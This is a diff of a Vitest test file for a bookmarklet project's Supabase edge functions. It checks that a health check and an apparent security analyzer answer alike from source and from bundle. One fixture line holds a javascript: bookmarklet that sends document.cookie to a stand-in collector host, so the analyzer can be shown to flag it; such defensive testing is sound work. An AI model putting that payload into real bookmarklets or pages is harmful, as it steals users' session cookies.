@@ -3,25 +3,64 @@ import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { text } from "node:stream/consumers";
 import { fileURLToPath } from "node:url";
 import { buildEdgeFunctions } from "@scriptorium/build-config/build/build-edge-functions";
 import { type DenoProcess, startDeno } from "@scriptorium/supabase/local/functions/deno-process";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 
 const folder = mkdtempSync(join(tmpdir(), "scriptorium-edge-"));
-const source = fileURLToPath(new URL("../../../supabase/functions/health-check/index.ts", import.meta.url));
-const bundle = join(folder, "health-check", "index.js");
+const sourceOf = (name: string) =>
+	fileURLToPath(new URL(`../../../supabase/functions/${name}/index.ts`, import.meta.url));
+const bundleOf = (name: string) => join(folder, name, "index.js");
+const id = "3f0c2b9e-0000-4000-8000-000000000000";
+const leak = "javascript:void fetch('https://collector.example/?c='+document.cookie)";
 
-/** The one thing the function asks of a project: an id from `bookmarklets`. */
+/** Everything the functions ask of a project. The database itself is tested in supabase/tests. */
+const PROJECT: Readonly<Record<string, (body: string) => unknown>> = {
+	"/rest/v1/bookmarklets": () => [{ id }],
+	"/rest/v1/versions": () => ({ id }),
+	"/rest/v1/rpc/begin_analysis": (body) => (body.includes(id) ? [{ code: leak, title: "Sample", report: null }] : []),
+	"/rest/v1/rpc/record_analysis": (body) => JSON.parse(body).p_summary,
+	"/rest/v1/rpc/claim_analysis_job": () => [],
+	"/rest/v1/rpc/analysis_queue_state": () => [{ waiting: 0, outdated: 0 }],
+};
+
 function startProject(): Promise<Server> {
-	const server = createServer((request, response) => {
-		const asked = new URL(request.url ?? "/", "http://project");
-		const known = asked.pathname === "/rest/v1/bookmarklets" && asked.searchParams.get("select") === "id";
-		response.writeHead(known ? 200 : 404, { "content-type": "application/json" });
-		response.end(known ? '[{"id":"3f0c2b9e-0000-4000-8000-000000000000"}]' : '{"message":"unknown"}');
+	const server = createServer(async (request, response) => {
+		const answer = PROJECT[new URL(request.url ?? "/", "http://project").pathname];
+		const body = await text(request);
+		response.writeHead(answer ? 200 : 404, { "content-type": "application/json" });
+		response.end(JSON.stringify(answer ? answer(body) : { message: "unknown" }));
 	});
 	return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
 }
+
+interface Question {
+	readonly method: string;
+	readonly headers?: Record<string, string>;
+	readonly body?: string;
+}
+const post = (body: unknown, headers: Record<string, string> = {}): Question => ({
+	method: "POST",
+	headers,
+	body: JSON.stringify(body),
+});
+
+const questions: Readonly<Record<string, readonly Question[]>> = {
+	"health-check": [{ method: "GET" }, { method: "OPTIONS" }, { method: "DELETE" }],
+	"analyze-security": [
+		post({ code: leak, title: "Sample" }),
+		post({ version_id: id }),
+		post({ drain: true }, { apikey: "sb_secret_test" }),
+		post({ drain: true }),
+		post({ code: "no" }),
+		{ method: "POST", body: "{" },
+		{ method: "GET" },
+		{ method: "OPTIONS" },
+	],
+};
+const names = Object.keys(questions);
 
 describe("the edge functions, as sources and as the bundles that are deployed", () => {
 	let project: Server;
@@ -29,10 +68,13 @@ describe("the edge functions, as sources and as the bundles that are deployed", 
 
 	beforeAll(async () => {
 		project = await startProject();
-		expect(await buildEdgeFunctions(folder)).toContain("health-check");
-		const url = `http://127.0.0.1:${(project.address() as AddressInfo).port}`;
-		const env = { SUPABASE_URL: url, SUPABASE_ANON_KEY: "sb_publishable_test" };
-		for (const entry of [source, bundle]) {
+		expect((await buildEdgeFunctions(folder)).sort()).toEqual(names.toSorted());
+		const env = {
+			SUPABASE_URL: `http://127.0.0.1:${(project.address() as AddressInfo).port}`,
+			SUPABASE_ANON_KEY: "sb_publishable_test",
+			SUPABASE_SERVICE_ROLE_KEY: "sb_secret_test",
+		};
+		for (const entry of names.flatMap((name) => [sourceOf(name), bundleOf(name)])) {
 			running.push(await startDeno({ entry, env, cacheDir: join(folder, "deno"), log: () => undefined }));
 		}
 	}, 120_000);
@@ -42,20 +84,32 @@ describe("the edge functions, as sources and as the bundles that are deployed", 
 		rmSync(folder, { recursive: true, force: true });
 	});
 
-	it("answer alike", async () => {
-		const ask = async ({ port }: DenoProcess, method: string) => {
-			const answer = await fetch(`http://127.0.0.1:${port}/health-check`, { method });
-			return { status: answer.status, body: await answer.text() };
-		};
-		for (const method of ["GET", "OPTIONS", "DELETE"]) {
-			const [fromSource, fromBundle] = await Promise.all(running.map((one) => ask(one, method)));
-			expect(fromBundle, method).toEqual(fromSource);
+	const ask = async (process: DenoProcess | undefined, question: Question) => {
+		const answer = await fetch(`http://127.0.0.1:${process?.port}/`, question);
+		return { status: answer.status, body: await answer.text() };
+	};
+
+	it.each(names.map((name, index) => [name, index] as const))("answer alike: %s", async (name, index) => {
+		for (const question of questions[name] ?? []) {
+			const [fromSource, fromBundle] = [running[2 * index], running[2 * index + 1]];
+			const answered = await ask(fromSource, question);
+			expect(await ask(fromBundle, question), JSON.stringify(question)).toEqual(answered);
+			expect(answered.status, answered.body).toBeLessThan(500);
 		}
-		const [read] = await Promise.all(running.map((one) => ask(one, "GET")));
-		expect(read).toEqual({ status: 200, body: JSON.stringify({ status: "ok", bookmarklets: "readable" }) });
 	});
 
-	it("are one file without imports", () => {
-		expect(readFileSync(bundle, "utf8")).not.toMatch(/^\s*(import\s|export .* from )/m);
+	it("do their work", async () => {
+		const healthy = { status: 200, body: JSON.stringify({ status: "ok", bookmarklets: "readable" }) };
+		expect(await ask(running[1], { method: "GET" })).toEqual(healthy);
+		const [onCode, onVersion] = await Promise.all([
+			ask(running[3], post({ code: leak, title: "Sample" })),
+			ask(running[3], post({ version_id: id })),
+		]);
+		expect(onVersion).toEqual(onCode);
+		expect(JSON.parse(onCode.body)).toMatchObject({ risk_level: "red", vulnerabilities: [{ line: 1 }] });
+	});
+
+	it.each(names)("are one file without imports: %s", (name) => {
+		expect(readFileSync(bundleOf(name), "utf8")).not.toMatch(/^\s*(import\s|export .* from )/m);
 	});
 });
